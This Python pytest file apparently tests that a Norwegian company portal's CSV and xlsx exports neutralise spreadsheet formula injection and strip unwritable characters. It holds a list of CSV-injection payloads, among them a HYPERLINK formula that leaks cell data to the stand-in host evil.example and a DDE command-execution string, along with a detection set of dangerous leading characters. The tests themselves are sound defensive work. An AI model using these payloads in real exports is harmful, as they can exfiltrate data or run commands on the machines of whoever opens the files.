"""The rule for a cell of an export (kvote.common.exports.cell), and every export of the portal
holding it: a company whose stored text is hostile gets files that open, hold no formula and no
text a spreadsheet would take for one, and keep their numbers and dates typed.

The walk finds the exports by what they answer (CSV or xlsx), over every URL of the URL map
(tests/urlmap.py), so an export added later is checked without being named here.
"""

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.db import connection
from django.utils import timezone

from kvote.catalog.models import EmployeeSize, SizeGroup
from kvote.common.exports import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    Sheet,
    cell,
    export_filename,
    write_csv,
    write_xlsx,
)
from kvote.ordering.models import OrderLine
from kvote.people.models import Employee, User
from tests.factories import (
    CompanyFactory,
    EmployeeFactory,
    VariantFactory,
    give_budget,
    member,
)
from tests.urlmap import company_ids, portal_urls

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
# Text as a person, an import or an old row may have left it (OWASP's CSV injection list, and
# every character a spreadsheet cannot hold).
HOSTILE = [
    FORMULA,
    "=cmd|' /C calc'!A0",
    "+47 22 00 00 00",
    "-150",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "Kari\x00Nordmann",
    "Ola\x01\x08\x0b\x0c\x0e\x1f\x7fHansen",
    "Per\ufffe\uffffDahl",
]
# PostgreSQL keeps no NUL in text; no database keeps a lone surrogate (the unit tests have them).
STORABLE = [text for text in HOSTILE if not (connection.vendor == "postgresql" and "\x00" in text)]
DANGEROUS_START = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
# A CSV number (typed, so a negative one is data, not a formula): "-150,00", "-150.00", "3".
CSV_NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def _safe_text(text: str) -> bool:
    return (
        text[:1] not in DANGEROUS_START
        and text.lstrip()[:1] not in DANGEROUS_START
        and not UNWRITABLE.search(text)
    )


# --- The rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+47 22 00 00 00", "'+47 22 00 00 00"),
        ("-150", "'-150"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Kari\x00Nordmann", "KariNordmann"),
        ("a\x01\x08\x0b\x0c\x0e\x1f\x7fb", "ab"),
        ("a\ud800b\udfffc", "abc"),
        ("a\ufffe\uffffb", "ab"),
        ("\x00=1+1", "'=1+1"),
        ("Linje 1\nLinje 2\tfane", "Linje 1\nLinje 2\tfane"),
        ("Bjørn O'Dahl – 1+1=2", "Bjørn O'Dahl – 1+1=2"),
        ("", ""),
    ],
)
def test_a_text_cell_is_kept_safe(value, expected):
    assert cell(value) == expected


@pytest.mark.parametrize(
    "value",
    [Decimal("-150.00"), Decimal("0.00"), -3, 7, 2.5, date(2026, 1, 31), None],
)
def test_numbers_and_dates_stay_typed(value):
    assert cell(value) == value
    assert type(cell(value)) is type(value)


def test_a_cell_holds_at_most_what_a_spreadsheet_cell_holds_and_no_infinity():
    assert len(cell("=" + "x" * 40000)) == 32767
    assert cell(Decimal("-Infinity")) == "'-Infinity"
    assert cell(Decimal("NaN")) == "NaN"


def test_an_aware_time_is_written_as_local_time():
    moment = datetime(2026, 6, 1, 10, 0, tzinfo=timezone.get_fixed_timezone(0))
    assert cell(moment) == datetime(2026, 6, 1, 12, 0)  # Europe/Oslo in summer


def _sheet() -> Sheet:
    return Sheet(
        title="Ansatte",
        headers=["=Navn", "Beløp", "Dato"],
        rows=[
            [text, Decimal("-150.00"), date(2026, 1, 31)]
            for text in [*HOSTILE, "a\ud800b", "=" + "x" * 40000]
        ],
    )


def test_xlsx_of_hostile_text_opens_with_text_cells_and_typed_numbers():
    ws = openpyxl.load_workbook(io.BytesIO(write_xlsx(_sheet()))).active
    rows = list(ws.iter_rows())
    assert len(rows) == len(HOSTILE) + 3
    for row in rows:
        name = row[0]
        assert name.data_type == "s" and _safe_text(name.value), repr(name.value)
    for _name, amount, day in rows[1:]:
        assert amount.value == -150 and amount.data_type == "n"
        assert day.value == datetime(2026, 1, 31) and day.is_date
    assert rows[1][0].value == "'" + FORMULA


@pytest.mark.parametrize(
    ("language", "delimiter", "amount"), [("nb", ";", "-150,00"), ("en", ",", "-150.00")]
)
def test_csv_of_hostile_text_holds_no_formula_and_keeps_negative_amounts(
    language, delimiter, amount
):
    body = write_csv(_sheet(), language).decode("utf-8")
    rows = list(
        csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    )
    assert len(rows) == len(HOSTILE) + 3
    for row in rows:
        assert _safe_text(row[0]), repr(row[0])
    assert [total for _name, total, _day in rows[1:]] == [amount] * (len(HOSTILE) + 2)
    assert rows[1] == ["'" + FORMULA, amount, "2026-01-31"]


# --- Every export of the portal ----------------------------------------------------------------


@pytest.fixture
def hostile_company():
    """A company whose people, orders and products carry every hostile text, one employee
    over budget (a negative remaining amount), and a row of every kind a URL names."""
    company = CompanyFactory(name="=Fiendtlig AS")
    boss = member(
        company,
        full_name=FORMULA,
        language="nb",
        is_company_admin=True,
        is_supervisor=True,
        is_approver=True,
    )
    for index in range(len(STORABLE)):
        EmployeeFactory(
            company=company, supervisor=boss, name=f"Ansatt {index}", number=f"H{index}"
        )
    # Stored as they are (an old row, a back-office edit): not through today's cleaning rules.
    employees = list(Employee.objects.filter(company=company, supervisor=boss).order_by("pk"))
    for employee, text in zip(employees, STORABLE, strict=True):
        Employee.objects.filter(pk=employee.pk).update(name=text, number=text[:20])
    User.objects.filter(pk=boss.pk).update(full_name=FORMULA)
    ids = company_ids(User.objects.get(pk=boss.pk))
    buyer = Employee.objects.get(pk=ids["employee_id"])
    give_budget(buyer, "0.00")
    for field, limit in (
        ("product_name", 200),
        ("product_name_en", 200),
        ("colour", 60),
        ("colour_en", 60),
        ("size", 20),
        ("item_number", 40),
    ):
        OrderLine.objects.filter(company=company).update(**{field: FORMULA[:limit]})
    # A size stored as it is (a back-office edit), in a group the catalogue has.
    VariantFactory(size="M")
    EmployeeSize.objects.create(
        company=company, employee=buyer, group=SizeGroup.TOPS, size=FORMULA[:20]
    )
    return boss, ids


def _export(response) -> tuple[str, list[list[object]]] | None:
    kind = response.get("Content-Type", "")
    if kind == XLSX_CONTENT_TYPE:
        ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
        for row in ws.iter_rows():
            for target in row:
                assert target.data_type != "f", f"a formula: {target.value!r}"
        return "xlsx", [[target.value for target in row] for row in ws.iter_rows()]
    if kind == CSV_CONTENT_TYPE or kind.startswith("text/csv"):
        body = response.content.decode("utf-8").removeprefix("\ufeff")
        first = body.split("\r\n", 1)[0]
        delimiter = ";" if first.count(";") > first.count(",") else ","
        return "csv", list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))
    return None


@pytest.mark.parametrize("language", ["nb", "en"])
def test_every_export_of_a_hostile_company_opens_and_holds_no_formula(
    client, hostile_company, language
):
    boss, ids = hostile_company
    User.objects.filter(pk=boss.pk).update(language=language)
    exports = {}
    for name, url in portal_urls(ids):
        client.force_login(boss)  # a page the walk visits may end the session
        response = client.get(url)
        assert response.status_code < 500, f"GET {url} ({name}) gave {response.status_code}"
        found = _export(response)
        if found is None:
            continue
        kind, rows = found
        cells = [value for row in rows for value in row]
        for value in cells:
            if isinstance(value, str):
                assert _safe_text(value) or (kind == "csv" and CSV_NUMBER.fullmatch(value)), (
                    f"{url}: {value!r}"
                )
        exports[f"{name}.{kind}"] = cells
    assert set(exports) == {
        f"{name}.{kind}"
        for name in ("employees_export", "employees_all_export", "employee_purchases_export")
        for kind in ("xlsx", "csv")
    } | {"sizes_export.csv"}
    # Not vacuous: the hostile text is there, made safe; the negative amount stays a number.
    listed = exports["employees_export.xlsx"]
    assert "'" + FORMULA in listed
    assert "'-150" in listed
    assert Decimal("-10.00") in [Decimal(str(v)) for v in listed if isinstance(v, int | float)]
    assert "'" + FORMULA in exports["employee_purchases_export.csv"]
    assert {"'" + FORMULA, "'" + FORMULA[:20]} <= set(exports["sizes_export.csv"])


def test_only_the_export_module_writes_spreadsheets():
    """An export that the walk cannot reach (a back-office action, a command, a job) still goes
    through kvote.common.exports: no other module writes CSV or xlsx itself."""
    package = Path(__file__).resolve().parents[2]
    writes = re.compile(r"csv\.(writer|DictWriter)\b|\bopenpyxl\b|\bxlsxwriter\b")
    home = package / "common" / "exports.py"
    # The catalogue import reads xlsx files with openpyxl (read_only); it writes none.
    readers = {package / "catalog" / "imports" / "reading.py"}
    writers = [
        str(path.relative_to(package.parent))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and path != home
        and path not in readers
        and writes.search(path.read_text())
    ]
    assert writers == [], "write through kvote.common.exports (cell, write_csv, write_xlsx)"


def test_an_exports_name_is_its_words_as_a_slug_with_norwegian_letters_spelt_out():
    today = timezone.localdate().isoformat()
    assert export_filename("Ansatt 1001 kjøp", "csv") == f"ansatt-1001-kjop-{today}.csv"
    assert export_filename("Ærlige Åse", "xlsx") == f"aerlige-ase-{today}.xlsx"
    assert export_filename("«/»", "csv") == f"export-{today}.csv"
